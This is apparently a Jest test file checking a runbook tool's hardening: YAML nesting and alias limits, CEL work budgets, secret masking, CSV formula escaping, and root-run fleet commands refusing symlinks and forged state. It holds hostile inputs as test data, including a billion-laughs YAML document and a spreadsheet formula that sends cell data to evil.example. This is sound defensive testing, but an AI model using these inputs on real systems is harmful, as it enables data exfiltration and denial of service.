// Unit: hostile input. YAML that nests, grows or aliases without end is refused with a located problem (and
// `runbook validate` survives it); CEL expressions are bounded in size when validated and in work when evaluated;
// the audit CSV cannot smuggle spreadsheet formulas; `fleet up/down`, run as root, trust nothing a user prepared.
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { evaluate, ExpressionError } from '../../dsl/expr';
import { loadInventoryText } from '../../dsl/inventory';
import { loadRunbookFile, loadRunbookText } from '../../dsl/load';
import { formatProblem } from '../../dsl/problems';
import { runAuditExport } from '../../cli/audit';
import { openAuditStore } from '../../audit/store';
import type { AuditEntry } from '../../audit/record';
import { fleetDown, fleetUp } from '../../fleet/fleet';

const root = path.join(__dirname, '..', '..');
const runbook = path.join(root, 'bin', 'runbook.js');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'runbook-hardening-'));
fs.chmodSync(tmp, 0o755);
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const N = 10_000;
const deep = {
  'flow sequences': `${'['.repeat(N)}${']'.repeat(N)}\n`,
  'flow mappings': `${'{a: '.repeat(N)}1${'}'.repeat(N)}\n`,
  'block sequences': `${'- '.repeat(N)}1\n`,
  // 1,000 levels of indentation (10,000 would be 50 MB: refused for its size, below).
  'block mappings': `${Array.from({ length: 1000 }, (_, i) => `${' '.repeat(i)}a:\n`).join('')}${' '.repeat(1000)}b: 1\n`,
  'block sequences by indentation': `${Array.from({ length: 1000 }, (_, i) => `${' '.repeat(i)}-\n`).join('')}${' '.repeat(1000)}1\n`,
};

describe('YAML limits', () => {
  test.each(Object.entries(deep))('10,000-deep %s: a located RB1004, not a crash', (_label, text) => {
    const { problems, runbook: rb } = loadRunbookText('deep.yaml', text);
    expect(rb).toBeUndefined();
    expect(problems.map(formatProblem)).toEqual([
      expect.stringMatching(
        /^deep\.yaml:\d+:\d+: nesting deeper than 100 levels of lists and mappings; refusing to parse further \[RB1004\]$/,
      ),
    ]);
    expect(loadInventoryText('deep-inv.yaml', text).problems.map((p) => p.code)).toEqual(['RB1004']);
  });

  test('the problem points at the level that goes too deep', () => {
    // a, b, then the 98th bracket.
    expect(
      loadRunbookText('x.yaml', `a:\n  b: ${'['.repeat(200)}${']'.repeat(200)}\n`).problems.map(formatProblem),
    ).toEqual([
      'x.yaml:2:103: nesting deeper than 100 levels of lists and mappings; refusing to parse further [RB1004]',
    ]);
  });

  test('ordinary nesting (flow and block, scalars with brackets, block scalars) is not counted as depth', () => {
    const text = [
      'apiVersion: runbooks/v1',
      'kind: Runbook',
      'metadata: { name: ok }',
      'targets: all',
      'steps:',
      ...Array.from(
        { length: 30 },
        (_, i) => `  - id: s${i}\n    ssh: { run: 'echo [[[[ {{{{ ${i}' }\n    when: 'true'`,
      ),
      '  - id: script',
      '    ssh:',
      '      script: |',
      ...Array.from({ length: 200 }, () => '        [[[[[[[[[[[[[[[[[[[[ x'),
      '',
    ].join('\n');
    expect(loadRunbookText('ok.yaml', text).problems.map(formatProblem)).toEqual([]);
  });

  test('a billion-laughs document is refused at its first alias (RB1006)', () => {
    const laughs = `a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n${Array.from(
      { length: 9 },
      (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(', ')}]\n`,
    ).join('')}`;
    expect(loadRunbookText('laughs.yaml', laughs).problems.map(formatProblem)).toEqual([
      'laughs.yaml:2:10: aliases expand to too much data (more than 100 alias resolutions, as in a "billion laughs" document); write the values out or use fewer aliases [RB1006]',
    ]);
  });

  test.each([
    [
      'a long chain of anchors and aliases',
      Array.from({ length: N }, (_, i) => (i === 0 ? 'a0: &a0 [x]\n' : `a${i}: &a${i} [*a${i - 1}]\n`)).join(''),
      /^chain\.yaml:2:10: aliases expand to too much data .* \[RB1006\]$/,
    ],
    [
      'aliases nesting values deeper than the text',
      Array.from(
        { length: 5 },
        (_, i) => `a${i}: &a${i} ${'['.repeat(90)}${i === 0 ? 'x' : `*a${i - 1}`}${']'.repeat(90)}\n`,
      ).join(''),
      /^chain\.yaml:2:99: aliases nest values deeper than 100 levels; write the values out or use fewer aliases \[RB1006\]$/,
    ],
    [
      'an alias inside the node it names',
      'apiVersion: runbooks/v1\nkind: Runbook\nmetadata: {name: x}\nsteps: &s\n  - id: a\n    parallel: {steps: *s}\n',
      /^chain\.yaml:6:23: an alias refers to a node that contains it, which makes an endless value; write the values out or use fewer aliases \[RB1006\]$/,
    ],
  ])('%s is refused (RB1006)', (_label, text, expected) => {
    expect(loadRunbookText('chain.yaml', text).problems.map(formatProblem)).toEqual([expect.stringMatching(expected)]);
  });

  test('an inventory whose vars refer to themselves is refused, not handed on as an endless value', () => {
    const { inventory, problems } = loadInventoryText(
      'inv.yaml',
      'hosts:\n  h:\n    address: x\n    vars: &v {a: *v}\n',
    );
    expect(inventory).toBeUndefined();
    expect(problems.map(formatProblem)).toEqual([
      'inv.yaml:4:18: an alias refers to a node that contains it, which makes an endless value; write the values out or use fewer aliases [RB1006]',
    ]);
  });

  test('size: a runbook over 2 MiB and an inventory over 16 MiB are refused unparsed (RB1005)', () => {
    const big = path.join(tmp, 'big.yaml');
    fs.writeFileSync(big, `# ${'x'.repeat(3 * 1024 * 1024)}\n`);
    expect(loadRunbookFile(big).problems.map(formatProblem)).toEqual([
      `${big}: the file is 3 MiB (3145731 bytes), more than the 2 MiB a runbook may have; refusing to parse it [RB1005]`,
    ]);
    expect(loadInventoryText('inv.yaml', `# ${'x'.repeat(17 * 1024 * 1024)}\n`).problems.map(formatProblem)).toEqual([
      'inv.yaml: the file is 17 MiB (17825795 bytes), more than the 16 MiB an inventory may have; refusing to parse it [RB1005]',
    ]);
  });

  test('many keys in one mapping stay fast (duplicate keys are found in one pass)', () => {
    const text = `${Array.from({ length: 50_000 }, (_, i) => `k${i}: ${i}`).join('\n')}\nk7: again\n`;
    const started = Date.now();
    const problems = loadRunbookText('keys.yaml', text).problems;
    expect(Date.now() - started).toBeLessThan(5000);
    expect(problems.filter((p) => p.code === 'RB1002').map(formatProblem)).toEqual([
      'keys.yaml:50001:1: duplicate key "k7": a key may appear once per mapping [RB1002]',
    ]);
  });

  test('a large inventory (30,000 hosts in a group; ours, INI and Ansible YAML) loads in seconds, not minutes', () => {
    const n = 30_000;
    const names = Array.from({ length: n }, (_, i) => `web-${i}`);
    const texts: [string, string][] = [
      [
        'inv.yaml',
        `hosts:\n${names.map((h) => `  ${h}: { address: 10.0.0.1, user: deploy }`).join('\n')}\ngroups:\n  web: [${names.join(', ')}]\n`,
      ],
      [
        'hosts.ini',
        `[web]\n${names.map((h) => `${h} ansible_host=10.0.0.1`).join('\n')}\n[web:vars]\nansible_user=deploy\n`,
      ],
      [
        'hosts.yaml',
        `all:\n  children:\n    web:\n      hosts:\n${names.map((h) => `        ${h}: { ansible_host: 10.0.0.1 }`).join('\n')}\n`,
      ],
    ];
    const started = Date.now();
    for (const [file, text] of texts) {
      const { inventory, problems } = loadInventoryText(file, text);
      expect([file, problems.length, inventory?.hosts.length, inventory?.groups.web?.length]).toEqual([file, 0, n, n]);
    }
    expect(Date.now() - started).toBeLessThan(10_000); // about 3 s; 20 s when group lookups were quadratic
  });

  test('Ansible INI groups nested through children without end are refused', () => {
    const text = Array.from({ length: N }, (_, i) => `[g${i}:children]\ng${i + 1}`).join('\n') + `\n[g${N}]\nweb-1\n`;
    const problems = loadInventoryText('hosts.ini', text).problems;
    expect(problems[0] && formatProblem(problems[0])).toBe(
      'hosts.ini:200:1: groups nest deeper than 100 levels through children (g0 -> ... -> g100) [RB1405]',
    );
  });

  test('runbook validate reports every pathological file with its location, exit 1, no crash and no stack', () => {
    const dir = path.join(tmp, 'deep');
    fs.mkdirSync(dir);
    Object.values(deep).forEach((text, i) => fs.writeFileSync(path.join(dir, `deep-${i}.yaml`), text));
    const wide = Array.from({ length: N }, (_, i) => `${' '.repeat(i)}a:\n`).join('');
    fs.writeFileSync(path.join(dir, 'wide-block-mappings.yaml'), wide);
    const r = spawnSync('node', [runbook, 'validate', dir], { encoding: 'utf8' });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(1);
    const lines = r.stdout.trim().split('\n');
    expect(lines.slice(0, 5)).toEqual(
      Object.keys(deep).map((_, i) =>
        expect.stringMatching(
          new RegExp(
            `^${dir}/deep-${i}\\.yaml:\\d+:\\d+: nesting deeper than 100 levels of lists and mappings; refusing to parse further \\[RB1004\\]$`,
          ),
        ),
      ),
    );
    expect(lines[5]).toBe(
      `${dir}/wide-block-mappings.yaml: the file is 47.7 MiB (${wide.length} bytes), more than the 16 MiB an inventory may have; refusing to parse it [RB1005]`,
    );
    expect(lines[6]).toBe('6 files checked: 6 errors, 0 warnings');
  });
});

describe('CEL limits', () => {
  const rb = (when: string) =>
    [
      'apiVersion: runbooks/v1',
      'kind: Runbook',
      'metadata: { name: x }',
      'targets: all',
      'steps:',
      '  - id: a',
      `    when: '${when}'`,
      "    ssh: { run: 'true' }",
      '',
    ].join('\n');

  test.each([
    [
      'nested parentheses',
      `${'('.repeat(100)}true${')'.repeat(100)}`,
      /^x\.yaml:7:11: steps\[0\]\.when: expression too complex: `\({57}\.\.\.` nests more than 64 levels deep; split it up \[RB1215\]$/,
    ],
    [
      'a long chain of operators',
      `${Array(100).fill('1').join(' + ')} > 0`,
      /^x\.yaml:7:11: steps\[0\]\.when: expression too complex: `1 \+ 1 .*\.\.\.` nests more than 64 levels deep; split it up \[RB1215\]$/,
    ],
    [
      'a very long expression',
      `"${'x'.repeat(5000)}" != ""`,
      /^x\.yaml:7:11: steps\[0\]\.when: expression too complex: `"x{56}\.\.\.` is 5008 characters long; an expression may have at most 4096 \[RB1215\]$/,
    ],
  ])('validate refuses %s (RB1215)', (_label, expr, expected) => {
    expect(loadRunbookText('x.yaml', rb(expr)).problems.map(formatProblem)).toEqual([expect.stringMatching(expected)]);
  });

  const big = Array.from({ length: 3000 }, (_, i) => i);
  const binds = (k: number) =>
    `cel.bind(v0, params.s, ${Array.from({ length: k }, (_, i) => `cel.bind(v${i + 1}, v${i} + v${i}, `).join('')}v${k}${')'.repeat(k + 1)}.size()`;
  test.each([
    ['comprehensions nested over a large list', 'params.l.map(a, params.l.map(b, a + b)).size()', { l: big }],
    ['a string doubled through cel.bind', binds(25), { s: 'abcdefgh' }],
    [
      'a join of many references to one large string',
      'params.l.map(a, params.s).join(",").size()',
      { l: big.slice(0, 100), s: 'x'.repeat(1 << 20) },
    ],
    [
      'an error absorbed by exists',
      'params.l.exists(a, params.l.map(b, params.l.map(c, c)).size() < 0 || false)',
      { l: big },
    ],
  ])('evaluation over budget fails cleanly and quickly: %s', (_label, source, params) => {
    const started = Date.now();
    let caught: unknown;
    try {
      evaluate(source, { params });
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(ExpressionError);
    expect((caught as Error).message).toMatch(
      /: stopped after 5000000 units of work \(values it makes count by their length\); the data it ran over is too large for it$/,
    );
    expect(Date.now() - started).toBeLessThan(3000);
  });

  test('a value nested too deep is refused before evaluation', () => {
    const value = JSON.parse(`${'['.repeat(N)}${']'.repeat(N)}`) as unknown;
    expect(() => evaluate('size(params.v)', { params: { v: value } })).toThrow(
      new ExpressionError('a value in the context is nested deeper than 100 levels', 0),
    );
  });

  test('ordinary work over large data is within budget', () => {
    expect(
      evaluate('params.l.map(a, a * 2).filter(a, a % 3 == 0).size()', {
        params: { l: Array.from({ length: 100_000 }, (_, i) => i) },
      }),
    ).toBe(33334);
    expect(evaluate('params.s.trim().lowerAscii().contains("x")', { params: { s: 'X'.repeat(1 << 20) } })).toBe(true);
  });
});

test("plan shows secrets in an HTTP step's JSON body and headers as <secret:NAME>", () => {
  const file = path.join(tmp, 'sec-post.yaml');
  fs.writeFileSync(
    file,
    [
      'apiVersion: runbooks/v1',
      'kind: Runbook',
      'metadata: { name: sec-post, description: x }',
      'secrets: { api: { provider: env, key: API_TOKEN } }',
      'targets: all',
      'steps:',
      '  - id: post',
      '    http:',
      '      method: POST',
      "      url: 'http://${{ target.address }}/x'",
      "      headers: { X-Token: '${{ secrets.api }}' }",
      "      json: { token: '${{ secrets.api }}', nested: ['Bearer ${{ secrets.api }}'] }",
      '',
    ].join('\n'),
  );
  const inventory = path.join(tmp, 'sec-inv.yaml');
  fs.writeFileSync(inventory, 'hosts:\n  h1: { address: 10.0.0.1, user: u }\n');
  const out = execFileSync('node', [runbook, 'plan', file, '-i', inventory], { encoding: 'utf8' });
  expect(out).toContain(
    'POST http://10.0.0.1/x -H "X-Token: <secret:api>" json={"token":"<secret:api>","nested":["Bearer <secret:api>"]} -> expect 200',
  );
});

describe('audit CSV export', () => {
  const entry = (over: Partial<AuditEntry>): AuditEntry => ({
    id: `id-${Math.random()}`,
    time: '2026-01-02T03:04:05.000Z',
    kind: 'step',
    run: { workflowId: 'wf-1', runId: 'run-1' },
    runbook: { name: 'x', contentHash: 'abc' },
    initiator: { trigger: 'cli', id: 'ops' },
    status: 'succeeded',
    ...over,
  });
  /** RFC 4180 rows (quoted fields, doubled quotes, newlines inside quotes). */
  const parseCsv = (text: string): string[][] => {
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') {
        row.push(cell);
        cell = '';
      } else if (c === '\n') {
        row.push(cell);
        rows.push(row);
        row = [];
        cell = '';
      } else cell += c;
    }
    return rows;
  };

  test('cells a spreadsheet would run as formulas get a leading quote; JSONL stays the stored form', async () => {
    jest.spyOn(console, 'error').mockImplementation(() => undefined); // "wrote N records to ..."
    const file = path.join(tmp, 'audit.jsonl');
    const store = await openAuditStore(`file:${file}`);
    await store.append([
      entry({
        action: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        target: '@SUM(1)',
        exitCode: -1,
        error: ' -2+3',
      }),
      entry({ action: '+cmd', target: '\tTAB', step: '\r=1', error: 'fine - not a formula' }),
    ]);
    await store.close();
    const csv = path.join(tmp, 'audit.csv');
    await runAuditExport({ auditUrl: `file:${file}`, format: 'csv', output: csv, json: false });
    const [header, first, second] = parseCsv(fs.readFileSync(csv, 'utf8'));
    const cell = (row: string[] | undefined, col: string) => row![header!.indexOf(col)];
    expect([cell(first, 'action'), cell(first, 'target'), cell(first, 'exit_code'), cell(first, 'error')]).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      "'@SUM(1)",
      '-1',
      "' -2+3",
    ]);
    expect([cell(second, 'action'), cell(second, 'target'), cell(second, 'step'), cell(second, 'error')]).toEqual([
      "'+cmd",
      "'\tTAB",
      "'\r=1",
      'fine - not a formula',
    ]);
    const jsonl = path.join(tmp, 'audit-export.jsonl');
    await runAuditExport({ auditUrl: `file:${file}`, format: 'jsonl', output: jsonl, json: false });
    expect(fs.readFileSync(jsonl, 'utf8')).toBe(fs.readFileSync(file, 'utf8'));
  });
});

describe('fleet up/down trust nothing a user prepared', () => {
  const victimUser = 'rbvictim';
  const made: string[] = [];
  const newDir = (name: string) => {
    const d = path.join(tmp, name);
    made.push(d);
    return d;
  };
  beforeAll(() => {
    spawnSync('userdel', ['-f', victimUser]);
    execFileSync('useradd', ['-M', '-s', '/usr/sbin/nologin', '-c', 'a user fleet down must not touch', victimUser]);
  });
  afterAll(async () => {
    // Only matters if a check failed and a fleet started after all (never for forged state: see forge).
    for (const d of made) await fleetDown(d).catch(() => undefined);
    spawnSync('userdel', ['-f', victimUser]);
  });

  test('fleet up refuses a --dir owned by another user', async () => {
    const dir = newDir('others');
    fs.mkdirSync(dir, { mode: 0o755 });
    fs.chownSync(dir, 65534, 65534);
    await expect(fleetUp({ hosts: 1, dir })).rejects.toThrow(
      `Refusing ${dir}: it is owned by uid 65534, not root, so that user could have prepared files in it; remove it or choose a new --dir (fleet up creates it).`,
    );
    expect(fs.readdirSync(dir)).toEqual([]);
  });

  test('fleet up refuses a --dir that is a symbolic link', async () => {
    const real = newDir('real');
    fs.mkdirSync(real, { mode: 0o755 });
    const link = newDir('link');
    fs.symlinkSync(real, link);
    await expect(fleetUp({ hosts: 1, dir: link })).rejects.toThrow(
      `Refusing ${link}: it is a symbolic link (to ${real}); fleet up and down run as root and write there, so give the real directory.`,
    );
    expect(fs.readdirSync(real)).toEqual([]);
  });

  test('fleet up refuses a --dir that group or others can write', async () => {
    const dir = newDir('open');
    fs.mkdirSync(dir);
    fs.chmodSync(dir, 0o777);
    await expect(fleetUp({ hosts: 1, dir })).rejects.toThrow(
      `Refusing ${dir}: it is writable by group or others (mode 0777)`,
    );
  });

  test('fleet up refuses a --dir below a directory others can write without the sticky bit', async () => {
    const open = newDir('open-parent');
    fs.mkdirSync(open);
    fs.chmodSync(open, 0o777);
    const dir = path.join(open, 'fleet');
    made.push(dir);
    await expect(fleetUp({ hosts: 1, dir })).rejects.toThrow(
      `Refusing ${dir}: ${open} above it is writable by group or others (mode 0777) without the sticky bit; choose a --dir under /tmp or another root-owned directory.`,
    );
    expect(fs.existsSync(dir)).toBe(false);
  });

  test('fleet up refuses a symbolic link planted where it writes a file, and leaves its target alone', async () => {
    const dir = newDir('planted');
    fs.mkdirSync(dir, { mode: 0o755 });
    const victim = path.join(tmp, 'victim.txt');
    fs.writeFileSync(victim, 'precious\n');
    fs.symlinkSync(victim, path.join(dir, 'inventory.yaml'));
    await expect(fleetUp({ hosts: 1, dir })).rejects.toThrow(
      `Refusing ${dir}/inventory.yaml: it is a symbolic link (to ${victim}); remove it, fleet up writes a new file.`,
    );
    expect(fs.readFileSync(victim, 'utf8')).toBe('precious\n');
  });

  /** A fleet.json as a forger would write it: right shape, foreign names. Never cleaned up with fleetDown. */
  const forge = (name: string, user: string, sudoersFile = '/etc/sudoers.d/runbook-fleet-abcdef') => {
    const dir = path.join(tmp, name);
    fs.mkdirSync(dir, { mode: 0o755 });
    const hostDir = path.join(dir, 'hosts', 'host-1');
    fs.writeFileSync(
      path.join(dir, 'fleet.json'),
      JSON.stringify({
        id: 'abcdef',
        dir,
        sudoersFile,
        createdAt: '2026-01-01T00:00:00Z',
        hosts: [
          { name: 'host-1', address: '127.0.0.2', port: 2222, user, home: path.join(hostDir, 'home'), dir: hostDir },
        ],
      }),
    );
    return dir;
  };

  test.each(['root', 'nobody'])('fleet down refuses a forged fleet.json naming user %s', async (user) => {
    const dir = forge(`forged-${user}`, user);
    await expect(fleetDown(dir)).rejects.toThrow(
      `Refusing ${dir}/fleet.json: it names user "${user}" for host 1, but fleet up names it "rbabcdefh1"; fleet down only removes what fleet up made.`,
    );
    expect(spawnSync('id', [user]).status).toBe(0);
  });

  test('fleet down leaves alone a user and a file a forged fleet.json names', async () => {
    const victim = path.join(tmp, 'victim-file');
    fs.writeFileSync(victim, 'keep me\n');
    const dir = forge('forged-victim', victimUser, victim);
    await expect(fleetDown(dir)).rejects.toThrow(
      `Refusing ${dir}/fleet.json: it names sudoers file ${JSON.stringify(victim)}, but fleet abcdef writes /etc/sudoers.d/runbook-fleet-abcdef.`,
    );
    expect(spawnSync('id', [victimUser]).status).toBe(0);
    expect(fs.existsSync(victim)).toBe(true);
  });

  test('fleet down refuses a user with the right name that fleet up did not create', async () => {
    const dir = forge('forged-lookalike', 'rbabcdefh1');
    execFileSync('useradd', ['-M', '-s', '/usr/sbin/nologin', '-c', 'not a fleet user', 'rbabcdefh1']);
    try {
      await expect(fleetDown(dir)).rejects.toThrow(
        `Refusing ${dir}/fleet.json: user rbabcdefh1 exists but is not the one fleet abcdef created`,
      );
      expect(spawnSync('id', ['rbabcdefh1']).status).toBe(0);
    } finally {
      spawnSync('userdel', ['-f', 'rbabcdefh1']);
    }
  });

  test('fleet down refuses a fleet.json another user owns', async () => {
    const dir = forge('forged-owner', victimUser);
    fs.chownSync(path.join(dir, 'fleet.json'), 65534, 65534);
    await expect(fleetDown(dir)).rejects.toThrow(
      `Refusing ${dir}/fleet.json: it is owned by uid 65534, not root; remove it.`,
    );
    expect(spawnSync('id', [victimUser]).status).toBe(0);
  });
});
